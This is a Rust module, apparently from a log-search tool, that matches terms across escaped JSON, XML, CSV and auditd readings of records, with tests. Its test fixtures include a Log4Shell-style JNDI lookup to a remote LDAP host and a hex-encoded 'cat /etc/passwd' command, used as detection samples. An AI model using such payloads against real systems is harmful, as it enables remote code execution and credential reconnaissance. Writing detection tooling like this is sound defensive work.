//! Searches terms in all readings of a record.
//!
//! A person searches for `C:\Windows` or `"cmd" /c`, but the file may hold `C:\\Windows` (JSON),
//! `&quot;cmd&quot;` (XML) or `""cmd""` (CSV). A term matches if any reading contains it.

use std::borrow::Cow;
use std::ops::Range;

use aho_corasick::AhoCorasick;
use memchr::memmem::Finder;

use super::fields::{Shape, json, parse, text_of, xml};
use super::source::Format;

mod grams;

pub(crate) use grams::{Grams, may_hold};

/// Lower case.
#[derive(Debug, Clone)]
pub(crate) struct Term {
    finder: Finder<'static>,
    /// The longest part that is written alike in all readings.
    core: Finder<'static>,
    grams: Vec<u32>,
}

impl Term {
    pub(crate) fn new(text: &str) -> Self {
        let lower = text.to_ascii_lowercase();
        let mut hashes = Vec::new();
        grams::each_gram(lower.as_bytes(), |gram| hashes.push(gram));
        let core = Finder::new(core(lower.as_bytes())).into_owned();
        Self { finder: Finder::new(lower.as_bytes()).into_owned(), core, grams: hashes }
    }

    /// `lower` must be in lower case.
    fn is_in(&self, lower: &[u8]) -> bool {
        self.finder.find(lower).is_some()
    }
}

#[derive(Debug, Clone, Default)]
pub(crate) struct Terms {
    each: Vec<Term>,
    any: bool,
    many: Option<Many>,
}

/// Many terms, of which one is enough.
#[derive(Debug, Clone)]
struct Many {
    whole: AhoCorasick,
    /// The part of each term that is written alike in all readings.
    cores: AhoCorasick,
}

const ONE_BY_ONE: usize = 8;

/// The bytes of a block in lower case.
#[derive(Debug, Default)]
pub(crate) struct Text {
    lower: Vec<u8>,
    others: Others,
}

/// How readings of records may differ from their bytes.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
enum Others {
    /// The bytes are the only reading.
    #[default]
    None,
    /// Characters that a format escapes.
    Escaped,
    /// Any characters.
    Any,
}

impl Text {
    pub(crate) fn new(block: &[u8]) -> Self {
        Self { lower: block.to_ascii_lowercase(), others: Others::of(block) }
    }
}

impl Others {
    fn of(block: &[u8]) -> Self {
        if Marks::of(block).none() {
            return Self::None;
        }
        let found = |mark: &str| memchr::memmem::find(block, mark.as_bytes()).is_some();
        let mut rest = block;
        while let Some(at) = memchr::memmem::find(rest, b"\\u") {
            rest = rest.get(at + 2..).unwrap_or_default();
            if rest.get(..4).is_some_and(|code| code.iter().all(u8::is_ascii_hexdigit)) {
                return Self::Any;
            }
        }
        if found("audit(") || found("&#") { Self::Any } else { Self::Escaped }
    }
}

/// The longest part of `lower` without characters that a format escapes.
fn core(lower: &[u8]) -> &[u8] {
    let is_plain = |byte: &u8| (byte.is_ascii_graphic() || *byte == b' ') && !b"\\/\"&;'<>".contains(byte);
    lower.split(|byte| !is_plain(byte)).max_by_key(|part| part.len()).unwrap_or_default()
}

impl Terms {
    pub(crate) fn new(texts: &[&str], any: bool) -> Self {
        let lower: Vec<String> = texts.iter().map(|text| text.to_ascii_lowercase()).collect();
        let many = || {
            let cores = AhoCorasick::new(lower.iter().map(|text| core(text.as_bytes()))).ok()?;
            Some(Many { whole: AhoCorasick::new(&lower).ok()?, cores })
        };
        let many = if any && texts.len() > ONE_BY_ONE { many() } else { None };
        Self { each: texts.iter().map(|text| Term::new(text)).collect(), any, many }
    }

    /// Terms of which a record must have each.
    pub(crate) const fn all(each: Vec<Term>) -> Self {
        Self { each, any: false, many: None }
    }

    pub(crate) const fn is_empty(&self) -> bool {
        self.each.is_empty()
    }

    pub(crate) const fn len(&self) -> usize {
        self.each.len()
    }

    pub(crate) const fn is_choice(&self) -> bool {
        self.any && self.each.len() > 1
    }

    pub(crate) fn held(&self, shape: &Shape, raw: &[u8]) -> bool {
        let Some(many) = &self.many else { return holds(shape, raw, &self.each, self.any) };
        let mut found = false;
        each(shape, raw, &mut |lower| {
            found = many.whole.is_match(lower);
            found
        });
        found
    }

    pub(crate) fn mark(&self, shape: &Shape, raw: &[u8], held: &mut [bool]) {
        each(shape, raw, &mut |lower| {
            match &self.many {
                Some(many) => many.whole.find_overlapping_iter(lower).for_each(|found| {
                    if let Some(held) = held.get_mut(found.pattern().as_usize()) {
                        *held = true;
                    }
                }),
                None => {
                    self.each.iter().zip(held.iter_mut()).for_each(|(term, held)| *held = *held || term.is_in(lower));
                }
            }
            !held.contains(&false)
        });
    }

    pub(crate) fn may_be_in(&self, filter: &[u8]) -> bool {
        match (self.each.is_empty(), self.any) {
            (true, _) => true,
            (false, true) => self.each.iter().any(|t| may_hold(filter, t)),
            (false, false) => self.each.iter().all(|t| may_hold(filter, t)),
        }
    }

    /// False if no record of the block can contain the terms.
    pub(crate) fn may_be_in_text(&self, text: &Text) -> bool {
        self.may_be_in_part(text, &text.lower)
    }

    /// Whether the record at `own` in the block contains the terms.
    pub(crate) fn held_in(&self, text: &Text, own: Range<usize>, shape: &Shape, raw: &[u8]) -> bool {
        let lower = text.lower.get(own).unwrap_or_default();
        self.may_be_in_part(text, lower) && (text.others == Others::None || self.held(shape, raw))
    }

    fn may_be_in_part(&self, text: &Text, lower: &[u8]) -> bool {
        let whole = match text.others {
            Others::None => true,
            Others::Escaped => false,
            Others::Any => return true,
        };
        let is_in = |term: &Term| if whole { &term.finder } else { &term.core }.find(lower).is_some();
        match (&self.many, self.any) {
            _ if self.each.is_empty() => true,
            (Some(many), _) => if whole { &many.whole } else { &many.cores }.is_match(lower),
            (None, true) => self.each.iter().any(is_in),
            (None, false) => self.each.iter().all(is_in),
        }
    }
}

/// What may give records of these bytes another reading than the bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Marks {
    beyond_ascii: bool,
    backslash: bool,
    reference: bool,
    quotes: bool,
    audit: bool,
}

impl Marks {
    fn of(bytes: &[u8]) -> Self {
        let found = |mark: &str| memchr::memmem::find(bytes, mark.as_bytes()).is_some();
        Self {
            beyond_ascii: !bytes.is_ascii(),
            backslash: memchr::memchr(b'\\', bytes).is_some(),
            reference: memchr::memchr(b'&', bytes).is_some(),
            quotes: found("\"\""),
            audit: found("audit("),
        }
    }

    /// Whether no record has another reading than its bytes.
    const fn none(self) -> bool {
        !(self.beyond_ascii || self.backslash || self.reference || self.quotes || self.audit)
    }
}

pub(crate) fn holds(shape: &Shape, raw: &[u8], terms: &[Term], any: bool) -> bool {
    if terms.is_empty() {
        return true;
    }
    let mut found = vec![false; terms.len()];
    each(shape, raw, &mut |lower| {
        for (term, found) in terms.iter().zip(&mut found) {
            *found = *found || term.is_in(lower);
        }
        if any { found.contains(&true) } else { !found.contains(&false) }
    });
    if any { found.contains(&true) } else { !found.contains(&false) }
}

/// Passes each reading in lower case to `enough`, the bytes first, until it returns true.
pub(crate) fn each(shape: &Shape, raw: &[u8], enough: &mut dyn FnMut(&[u8]) -> bool) {
    if !enough(&raw.to_ascii_lowercase()) {
        each_other(shape, raw, Marks::of(raw), enough);
    }
}

/// The readings beside the bytes. `marks` are those of the record, or of the block that it is in.
fn each_other(shape: &Shape, raw: &[u8], marks: Marks, enough: &mut dyn FnMut(&[u8]) -> bool) {
    let mut text = text_of(raw);
    if matches!(text, Cow::Owned(_)) && enough(text.to_ascii_lowercase().as_bytes()) {
        return;
    }
    // Logs contain at most two levels of JSON inside strings.
    for _ in 0..if marks.backslash { 2 } else { 0 } {
        if memchr::memchr(b'\\', text.as_bytes()).is_none() {
            break;
        }
        text = Cow::Owned(unescape(&text));
        if enough(text.to_ascii_lowercase().as_bytes()) {
            return;
        }
        let again = |at: usize| matches!(text.as_bytes().get(at + 1), Some(b'"' | b'u'));
        if !memchr::memchr_iter(b'\\', text.as_bytes()).any(again) {
            break;
        }
    }
    // Characters that an escape gives may be the beginning of a reference.
    let referring = (marks.reference || marks.backslash) && xml::escaped(text.as_bytes());
    if referring && enough(xml::unescape(&text).to_ascii_lowercase().as_bytes()) {
        return;
    }
    if (marks.quotes || marks.backslash)
        && matches!(shape.format, Format::Csv | Format::Tsv)
        && text.contains("\"\"")
        && enough(text.replace("\"\"", "\"").to_ascii_lowercase().as_bytes())
    {
        return;
    }
    if (marks.audit || marks.backslash) && text.contains("audit(") {
        let values: Vec<String> = parse(shape, raw).fields.into_iter().map(|(_, v)| v).collect();
        enough(values.join("\n").to_ascii_lowercase().as_bytes());
    }
}

fn unescape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = memchr::memchr(b'\\', rest.as_bytes()) {
        out.push_str(rest.get(..at).unwrap_or_default());
        rest = rest.get(at..).unwrap_or_default();
        let used = json::unescape(rest, &mut out).unwrap_or_else(|| {
            out.push('\\');
            1
        });
        rest = rest.get(used..).unwrap_or_default();
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const PARTS: [&str; 14] =
        ["a", "Bc", "\\\\", "\\n", "\\u0041", "\\\"", "&amp;", "&#66;", "&x", "\"\"", "ü", " ", "users", "\\\\users"];

    fn check(format: Format, raw: &str, term: &str, expect: bool) {
        let shape = Shape::of(format);
        let terms = [Term::new(term)];
        assert_eq!(holds(&shape, raw.as_bytes(), &terms, false), expect, "{term} in {raw}");
        if expect {
            let mut grams = Grams::new();
            each(&shape, raw.as_bytes(), &mut |lower| {
                grams.add(lower);
                false
            });
            assert!(may_hold(&grams.take(), &terms[0]), "the filter must not hide {term}");
        }
    }

    #[test]
    fn a_term_is_found_however_it_is_packed() {
        let json = r#"{"Image":"C:\\Windows\\System32\\netsh.exe","m":"{\"a\":\"x \\\"y\\\"\"}","x":"\u003cData\u003ea &quot;b&quot;\u003c/Data\u003e"}"#;
        check(Format::Ndjson, json, r"C:\Windows\System32\NETSH.exe", true);
        check(Format::Ndjson, json, r"C:\\Windows", true);
        check(Format::Ndjson, json, "<Data>", true);
        check(Format::Ndjson, json, r#"a "b""#, true);
        check(Format::Ndjson, json, r#"x "y""#, true);
        check(Format::Ndjson, json, "netsh.ex", true);
        check(Format::Ndjson, json, "netsh-exe", false);
        check(Format::Csv, "a,\"say \"\"hi\"\"\"", "say \"hi\"", true);
        check(
            Format::Auditd,
            "type=PROCTITLE msg=audit(1.5:2): proctitle=636174002F6574632F706173737764",
            "cat /etc/passwd",
            true,
        );
        check(Format::Plain, "${jndi:ldap://192.168.2.6:1389/o=reference}", "${jndi:ldap", true);
        check(Format::Plain, "x", "x", true);
        check(Format::Plain, "", "x", false);
        check(Format::Plain, "Grün", "grün", true);
    }

    #[test]
    fn of_many_terms_each_that_a_record_holds_is_marked() {
        let shape = Shape::of(Format::Ndjson);
        let raw = br#"{"Image":"C:\\Windows\\System32\\netsh.exe","m":"{\"a\":\"net user\"}"}"#;
        let texts = ["netsh.exe", "net", "nothing", "System32\\netsh", "a\":\"net", "x1", "x2", "x3", "x4", "x5"];
        let expect: Vec<bool> = [true, true, false, true, true].into_iter().chain([false; 5]).collect();
        for texts in [&texts[..], &texts[..5]] {
            let terms = Terms::new(texts, true);
            let mut held = vec![false; texts.len()];
            terms.mark(&shape, raw, &mut held);
            assert_eq!(held, expect[..texts.len()]);
            assert!(terms.held(&shape, raw));
        }
        assert!(!Terms::new(&texts[5..], true).held(&shape, raw));
        assert!(!Terms::new(&["x1", "x2", "x3", "x4", "x5", "x6", "x7", "x8", "x9"], true).held(&shape, raw));
    }

    proptest! {
        #[test]
        fn term_of_a_reading_is_in_the_text_of_its_block(
            parts in prop::collection::vec(prop::sample::select(PARTS.to_vec()), 1..12),
            from in 0..40usize,
            length in 1..12usize,
        ) {
            let raw = parts.concat();
            let shape = Shape::of(Format::Ndjson);
            let text = Text::new(raw.as_bytes());
            let mut readings = Vec::new();
            each(&shape, raw.as_bytes(), &mut |lower| {
                readings.push(String::from_utf8_lossy(lower).into_owned());
                false
            });
            for reading in readings {
                let term: String = reading.chars().skip(from).take(length).collect();
                let filler = ["zz1", "zz2", "zz3", "zz4", "zz5", "zz6", "zz7", "zz8", "zz9"];
                let many: Vec<&str> = filler.into_iter().chain([term.as_str()]).collect();
                for terms in [Terms::new(&[&term], false), Terms::new(&[&term], true), Terms::new(&many, true)] {
                    prop_assert!(terms.may_be_in_text(&text), "{term} in {raw}");
                    prop_assert!(terms.held_in(&text, 0..raw.len(), &shape, raw.as_bytes()), "{term} in {raw}");
                }
            }
        }
    }

    #[test]
    fn block_without_a_term_is_passed_over() {
        let text = Text::new(br#"{"Image":"C:\\users\\cmd.exe","m":"a & b"}"#);
        assert_eq!(text.others, Others::Escaped);
        assert!(!Terms::new(&[r"C:\users\net.exe"], false).may_be_in_text(&text));
        assert!(Terms::new(&[r"C:\users\cmd.exe"], false).may_be_in_text(&text));
    }
}
